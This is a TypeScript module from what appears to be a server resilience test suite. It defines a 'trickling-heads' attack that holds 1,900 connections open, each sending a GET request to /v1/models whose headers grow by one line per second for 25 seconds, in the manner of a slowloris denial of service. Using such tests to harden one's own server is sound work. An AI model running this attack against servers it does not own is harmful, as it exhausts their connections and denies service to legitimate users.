import type { Attack } from '../attack.ts';
import { trickle } from '../attacker/trickle.ts';

export const tricklingHeads: Attack = {
  id: '10b',
  name: 'trickling-heads',
  does: 'request heads that grow by a header a second, on 1,900 connections',
  forMs: 25_000,
  run: (attacker) =>
    trickle(attacker, {
      connections: 1_900,
      begin: () => 'GET /v1/models HTTP/1.1\r\nHost: x\r\n',
      piece: 'X-A: b\r\n',
    }),
};
